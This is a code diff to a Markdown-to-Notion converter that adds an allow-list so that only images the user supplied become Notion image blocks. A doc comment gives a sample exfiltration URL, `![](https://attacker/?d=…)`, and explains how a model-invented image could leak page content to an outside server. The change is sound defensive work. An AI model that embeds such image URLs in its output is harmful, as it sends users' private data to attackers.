@@ -8,6 +8,7 @@ import type {
   Heading,
   List,
   ListItem,
+  Nodes,
   PhrasingContent,
   Root,
   RootContent,
@@ -100,8 +101,24 @@ const HEADING_TYPES = ['heading_1', 'heading_2', 'heading_3'] as const;
 
 interface Context {
   definitions: DefinitionLookup;
+  /** Whether an image of the answer may become an image block (which Notion fetches). */
+  allowImage: (url: string) => boolean;
   /** Fence info string marking a `$$` display math block (see `protectDisplayMath`). */
   mathToken: string;
+}
+
+export interface MarkdownOptions {
+  /**
+   * Which images become image blocks. Notion fetches an image block's URL, so an image the model
+   * made up could carry page or row content to any server (`![](https://attacker/?d=…)`); the
+   * caller allows only URLs the user gave or chose. Any other image stays a visible link. Default: none.
+   */
+  allowImage?: (url: string) => boolean;
+}
+
+function parse(markdown: string): { tree: Root; token: string } {
+  const { source, token } = protectDisplayMath(markdown);
+  return { tree: fromMarkdown(source, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }), token };
 }
 
 /**
@@ -109,14 +126,27 @@ interface Context {
  * Only a `$$` block on lines of its own is math; `$…$` inline stays literal ("$5 and $10").
  * Raw HTML is kept as text, never interpreted. Empty input gives [].
  */
-export function markdownToBlocks(markdown: string): BlockTree[] {
-  const { source, token } = protectDisplayMath(markdown);
-  const tree: Root = fromMarkdown(source, {
-    extensions: [gfm()],
-    mdastExtensions: [gfmFromMarkdown()],
-  });
-  const ctx: Context = { definitions: collectDefinitions(tree), mathToken: token };
+export function markdownToBlocks(markdown: string, options: MarkdownOptions = {}): BlockTree[] {
+  const { tree, token } = parse(markdown);
+  const ctx: Context = { definitions: collectDefinitions(tree), mathToken: token, allowImage: options.allowImage ?? (() => false) };
   return convertNodes(tree.children, ctx);
+}
+
+/** The URLs of the images in a Markdown text (inline and by reference), in order. */
+export function imageUrls(markdown: string): string[] {
+  const { tree } = parse(markdown);
+  const definitions = collectDefinitions(tree);
+  const urls: string[] = [];
+  const visit = (node: Nodes): void => {
+    if (node.type === 'image') urls.push(node.url);
+    if (node.type === 'imageReference') {
+      const url = definitions(node.identifier)?.url;
+      if (url !== undefined) urls.push(url);
+    }
+    if ('children' in node) for (const child of node.children) visit(child);
+  };
+  visit(tree);
+  return urls;
 }
 
 function convertNodes(nodes: readonly RootContent[], ctx: Context): BlockTree[] {
@@ -191,8 +221,8 @@ function textBlock(type: TextBlockType, rich_text: RichTextItemRequest[], childr
 
 /**
  * A paragraph's inline content. Images that stand on their own (not inside a link) with an
- * absolute http(s) URL are lifted out as image blocks, splitting the paragraph around them;
- * other images keep their alt text.
+ * absolute http(s) URL the caller allows are lifted out as image blocks, splitting the paragraph
+ * around them; other images stay text: their alt text (or URL), linked to the image.
  */
 function paragraphBlocks(children: readonly PhrasingContent[], ctx: Context): BlockTree[] {
   const blocks: BlockTree[] = [];
@@ -219,7 +249,7 @@ function standaloneImage(node: PhrasingContent, ctx: Context): BlockTree | null 
   if (node.type !== 'image' && node.type !== 'imageReference') return null;
   const source = node.type === 'image' ? node.url : ctx.definitions(node.identifier)?.url;
   const url = source === undefined ? null : toExternalFileUrl(source);
-  if (url === null) return null;
+  if (url === null || !ctx.allowImage(url)) return null;
   const caption = textToRichText(node.alt ?? '').items;
   return {
     type: 'image',
